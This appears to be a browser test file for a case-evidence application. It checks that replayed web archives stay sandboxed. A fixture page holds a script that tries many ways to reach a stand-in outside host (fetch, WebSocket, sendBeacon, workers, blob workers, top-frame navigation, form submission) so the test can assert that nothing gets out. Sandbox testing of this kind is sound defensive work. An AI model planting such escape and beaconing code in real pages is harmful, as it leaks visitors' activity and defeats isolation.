"""An archive replayed in full, with the add-on as the registry has it: the page stands there, and nothing gets out."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.test import override_settings
from playwright.sync_api import expect

from casefiles.evidence import replaying
from casefiles.evidence.actions import reading
from tests import make
from tests.conftest import IN_CI, ROOT
from tests.evidence.web_archive_files import manifest, packed, page_list, response, zipped
from tests.journeys.conftest import session_cookie
from tools import install_replay

# The archive is shown by a worker of its own, which starts slowly on a machine that does other things.
PATIENCE_MS = 80_000

APP, REPLAY = "app.casefiles.localhost", "replay.casefiles.localhost"
URL = "https://hostile.example/"
# What a page does that wants to be noticed elsewhere: each way out, by itself and by leading the frames away.
ESCAPES = b"""<!doctype html><title>Escapes</title><h1>Angara at the quay</h1><p id="ran">not run</p>
<button id="leave">Leave</button>
<img src="https://outside.example/a.gif"><iframe src="https://outside.example/b"></iframe>
<link rel="stylesheet" href="https://outside.example/c.css"><form id="f" action="https://outside.example/d"></form>
<script>
const away = "https://outside.example/";
const tries = [
  () => fetch(away + "e"), () => new WebSocket("wss://outside.example/f"), () => navigator.sendBeacon(away + "g", "x"),
  () => new EventSource(away + "h"), () => { new Image().src = away + "i"; }, () => import(away + "j"),
  () => new Worker(away + "k"),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("${away}l"); new WebSocket("wss://outside.example/l")`]))),
];
const leave = [
  () => { top.location = away + "m"; }, () => window.open(away + "p"), () => { window.top.location.href = away + "n"; },
  () => document.getElementById("f").submit(), () => { parent.location = away + "o"; },
];
const attempt = (acts) => {
  for (const one of acts) { try { Promise.resolve(one()).catch(() => {}); } catch (error) {} }
};
attempt(tries);
document.getElementById("leave").addEventListener("click", () => attempt(leave));
document.getElementById("ran").textContent = "scripts ran";
</script>"""


@pytest.fixture(scope="module")
def folder() -> Path:
    """The add-on, installed as an administrator does; kept between runs, by version."""
    kept = ROOT / ".cache" / install_replay.PACKAGE
    if not all((kept / name).is_file() for name in replaying.FILES):
        try:
            install_replay.install(kept)
        except install_replay.InstallFailed as error:
            shutil.rmtree(kept, ignore_errors=True)
            (pytest.fail if IN_CI else pytest.skip)(str(error))
    return kept


def hostile() -> bytes:
    """Return a package with an index, as the add-on needs one, around a page that tries to get out."""
    warc = packed(response(URL, ESCAPES))
    line = {
        "url": URL, "mime": "text/html", "status": "200", "digest": "sha256:x", "length": str(len(warc)), "offset": "0",
        "filename": "data.warc.gz",
    }  # fmt: skip
    parts = {
        "archive/data.warc.gz": warc,
        "indexes/index.cdx": f"example,hostile)/ 20241025080000 {json.dumps(line)}\n".encode(),
        "pages/pages.jsonl": page_list({"url": URL, "ts": "2024-10-25T08:00:00Z", "title": "Escapes"}),
    }
    return zipped({**parts, "datapackage.json": manifest(parts)})


@pytest.fixture
def replayed(site: str, people: Any, folder: Path, browser: Any) -> Iterator[Any]:
    """Return a function that replays an archive: our page, the replayed frame, and every address asked for."""
    port = urlsplit(site).port
    app = f"http://{APP}:{port}"
    context = browser.new_context(base_url=app)
    context.set_default_timeout(PATIENCE_MS)
    context.add_cookies([session_cookie(people.lead, app)])

    def open_archive(content: bytes) -> tuple[Any, Any, list[str]]:
        item = make.item(people.lead, circle=make.restricted_to(make.case(people.lead).compartment))
        file = make.file(item, people.lead, content, "archive.wacz")
        reading.read_file(file)
        page, seen = context.new_page(), []
        context.on("request", lambda request: seen.append(request.url))
        page.on("websocket", lambda socket: seen.append(socket.url))
        page.on("response", lambda response: policies.append(response.headers) if "mp_/" in response.url else None)
        page.goto(f"/evidence/files/{file.pk}/replay/?number=1")
        frame = page.frame_locator(".replay-frame").frame_locator("replay-web-page iframe")
        return page, frame.frame_locator("iframe[name='___wb_replay_top_frame']"), seen

    policies: list[Any] = []
    hosts = [*[urlsplit(site).hostname, "testserver"], APP, REPLAY]
    with override_settings(REPLAY_HOST=f"{REPLAY}:{port}", REPLAY_FOLDER=folder, ALLOWED_HOSTS=hosts):
        yield open_archive
        context.close()
    # Without the rewriting of the add-on as well: what is replayed carries our policy, not its own.
    assert policies
    assert all("connect-src 'self' data: blob:;" in headers["content-security-policy"] for headers in policies)


def hosts_of(addresses: list[str]) -> set[str | None]:
    return {urlsplit(one).hostname for one in addresses if not one.startswith(("data:", "blob:", "about:"))}


def test_an_archived_page_is_replayed_without_asking_anybody(replayed: Any, shared_data: Path) -> None:
    content = (shared_data / "web-archive" / "replayweb_example.wacz").read_bytes()

    _page, frame, seen = replayed(content)

    expect(frame.get_by_text("Web archiving for all!")).to_be_visible(timeout=PATIENCE_MS)
    assert hosts_of(seen) == {APP, REPLAY}


def test_r30_the_scripts_of_an_archived_page_run_and_reach_nobody(replayed: Any) -> None:
    page, frame, seen = replayed(hostile())

    expect(frame.locator("#ran")).to_have_text("scripts ran", timeout=PATIENCE_MS)
    frame.locator("#leave").click()
    page.wait_for_load_state("networkidle")
    assert hosts_of(seen) == {APP, REPLAY}
    assert urlsplit(page.url).hostname == APP
    assert {cookie["domain"] for cookie in page.context.cookies()} == {APP}
